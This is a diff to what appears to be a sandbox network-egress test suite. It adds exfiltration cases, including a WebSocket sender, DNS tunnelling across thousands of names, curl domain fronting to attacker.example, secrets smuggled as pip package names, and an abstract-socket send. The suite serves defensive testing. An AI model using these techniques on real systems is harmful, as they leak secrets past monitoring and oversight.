@@ -1,4 +1,6 @@
 """What would leave by the network, and what it would reach."""
+from importlib.util import find_spec
+
 from network import PROSE, NetAttempt, carried, forms, told, touched
 
 NOT_ALLOWED = "host_not_allowed"
@@ -35,6 +37,26 @@ def encoded(name, code, rule="passage_leaves", technique="T1041"):
     return NetAttempt(16, f"{name} of what was read", technique, code + '\nweb("http://inspected.example/in", sent, {"Content-Type": "text/plain; charset=utf-8"})\n',
                       rule=rule, effect=carried)
 
+
+WEBSOCKET = """
+def websocket(host, *messages):
+    # What the server says to each message.
+    mark()
+    heard = []
+    try:
+        with socket.create_connection((host, 80)) as s:
+            s.sendall((f"GET /talk HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\n"
+                       "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n\\r\\n").encode())
+            print(s.recv(4096).split(b"\\r\\n")[0])
+            for message in messages:
+                message = message.encode()
+                size = bytes([128 | len(message)]) if len(message) < 126 else b"\\xfe" + struct.pack("!H", len(message))
+                s.sendall(b"\\x81" + size + b"\\1\\2\\3\\4" + bytes(b ^ (n % 4 + 1) for n, b in enumerate(message)))
+                heard.append(s.recv(4096))
+    except OSError as e:
+        print("no:", type(e).__name__, e)
+    return heard
+"""
 
 SOCKS = """
 def relay(listener):
@@ -154,6 +176,11 @@ for piece in pieces(report.replace(" ", ""), 6):
 for n in range(15):
     web("http://{PUBLIC}/poll?" + secret)
 """, rule="many_connections"),
+    NetAttempt(9, "web protocol, WebSocket", "T1041", WEBSOCKET + """
+assert websocket("inspected.example", "a few honest words") == [b"\\x81\\x04fine"]
+websocket("inspected.example", report)
+websocket("inspected.example", *pieces(report, 30))
+""", rule="passage_leaves", effect=carried),
     NetAttempt(10, "DNS protocol: TXT, NULL", "T1071.004", """
 for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
     query(f"{piece}.n{n}.carrier.example", kind=16)
@@ -162,6 +189,11 @@ for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
     refused(10, "DNS of another server", "T1071.001|T1041|T1571", """
 for tcp in (False, True):
     query(secret + ".attacker.example", server="8.8.8.8", tcp=tcp)
+"""),
+    # However many there were, the names that the person allowed can still be asked for.
+    refused(10, "thousands of names", "T1041", """
+for n in range(2100):
+    query(f"{secret}.x{n}.example")
 """),
     refused(11, "DNS over HTTPS, over TLS", "T1071.001|T1571", """
 asked = b"\\0\\0\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(secret)]) + secret.encode() + b"\\7example\\0\\0\\1\\0\\1"
@@ -180,6 +212,7 @@ said = "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n"
 talk("inspected.example", 80, said)
 talk("inspected.example", 80, said.replace("GET /", "GET http://attacker.example/"))
 talk("inspected.example", 443, said, tls="inspected.example")
+run("curl", "-sSk", "--http2", "-m", "5", "-H", "Host: attacker.example", "https://inspected.example/?" + secret)
 """, rule="fronting"),
     NetAttempt(13, "fronting: SNI", "T1090.004", """
 said = "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n"
@@ -213,6 +246,10 @@ for port in (4444, 6667, 31337):
     NetAttempt(19, "curl -T", "T1041", 'run("curl", "-sS", "-m", "5", "-T", W + "/report.txt", "http://inspected.example/in")', rule="passage_leaves", effect=carried),
     NetAttempt(19, "a header of git's", "T1041", 'run("git", "-c", "http.extraHeader=X-Note: " + report[:600], "ls-remote", "http://inspected.example/x.git", env={**os.environ, "HOME": "/tmp"})',
                rule="passage_leaves", effect=carried),
+    NetAttempt(19, "the name of a package", "T1041", """
+run(sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--retries", "0", "--disable-pip-version-check", "-i", "http://inspected.example/simple/",
+    "--trusted-host", "inspected.example", secret, env={**os.environ, "HOME": "/tmp"})
+""", rule="passage_leaves", effect=carried, skip=lambda: None if find_spec("pip") else "there is no pip"),
     NetAttempt(20, "metadata address, every notation", "T1552.005", """
 for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "0251.254.0xa9.254", "169.254.43518", "[::ffff:169.254.169.254]",
              "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "metadata.friend.example", "metadata.carrier.example"):
@@ -279,6 +316,14 @@ for port in (443, 4500, 5353):
 datagram("2606:2800:220:1::34", 443, secret.encode(), family=socket.AF_INET6)
 """, rule="cell.packet"),
     NetAttempt(23, "io_uring", "T1611|T1071.001", IO_URING, rule="cell.seccomp"),
+    NetAttempt(23, "abstract socket beside the network", "", """
+try:
+    with socket.socket(socket.AF_UNIX) as s:
+        s.connect(chr(0) + "listener-outside")
+        s.sendall(secret.encode())
+except OSError as e:
+    print("no:", e)
+"""),
     refused(24, "NUL in a SOCKS host", "T1041", SOCKS),
     refused(25, "relay inside the cell", "T1071.001", RELAY),
     NetAttempt(26, "push to another account", "T1567", """
